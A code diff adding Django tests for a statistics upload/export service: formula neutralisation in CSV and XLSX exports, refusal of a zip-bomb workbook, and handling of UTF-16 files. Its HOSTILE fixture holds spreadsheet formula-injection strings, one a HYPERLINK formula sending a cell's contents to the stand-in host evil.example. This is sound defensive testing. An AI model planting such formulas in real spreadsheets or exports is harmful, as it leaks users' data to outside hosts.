@@ -119,3 +119,48 @@ def test_export_with_a_bad_month_says_why(client, world):
     response = client.get(reverse("export"), {"first": "2024-13", "format": "csv"})
     assert response.status_code == 400
     assert "ÅÅÅÅ-MM" in response.content.decode() or "01–12" in response.content.decode()
+
+
+HOSTILE = ('=HYPERLINK("https://evil.example/?d="&A1,"Klikk")', "+1", "-2+3", "@SUM(A1)")
+
+
+def test_the_download_neutralises_formulas_in_comments(client, world):
+    lines = [
+        f'2024-03,030102,{code},50,"{text.replace(chr(34), chr(34) * 2)}"'
+        for code, text in zip(("SH_MOTTAKERE", "SH_HOVEDKILDE", "SH_UNDER30", "SH_LANGTID"), HOSTILE, strict=True)
+    ]
+    client.force_login(world.alice)
+    checked = upload(client, "period,area,code,value,comment\n" + "\n".join(lines) + "\n")
+    assert checked.status_code == 200, checked.context["report"].refused
+    client.post(reverse("upload"), {"token": checked.context["token"], "action": "import"})
+    response = client.get(reverse("export"), {"first": "2024-03", "last": "2024-03", "format": "csv"})
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
+    assert sorted(row["comment"] for row in rows) == sorted("'" + text for text in HOSTILE)
+    assert {row["value"] for row in rows} == {"50"}
+    workbook = client.get(reverse("export"), {"first": "2024-03", "last": "2024-03", "format": "xlsx"})
+    sheet = openpyxl.load_workbook(io.BytesIO(workbook.content)).active
+    comments = [(cell.value, cell.data_type) for cell in sheet["E"][1:]]
+    assert sorted(comments) == sorted((text, "s") for text in HOSTILE)
+
+
+def test_a_zip_bomb_is_refused_with_a_short_page(client, world):
+    from zip_bomb import zip_bomb_xlsx
+
+    client.force_login(world.alice)
+    bomb = SimpleUploadedFile("tall.xlsx", zip_bomb_xlsx(), "application/octet-stream")
+    response = client.post(reverse("upload"), {"file": bomb, "action": "check"})
+    assert response.status_code == 400
+    html = response.content.decode()
+    assert "Excel-filen pakker seg ut til 1024 MB; grensen er 250 MB" in html
+    assert len(response.content) < 50_000
+    assert "AAAAAAAAAA" not in html
+
+
+def test_a_utf_16_file_gets_a_word_about_the_encoding(client, world):
+    client.force_login(world.alice)
+    response = client.post(reverse("upload"), {
+        "file": SimpleUploadedFile("tall.csv", GOOD.encode("utf-16"), "text/csv"), "action": "check",
+    })
+    assert response.status_code == 400
+    html = response.content.decode()
+    assert "UTF-16" in html and "ÿþ" not in html
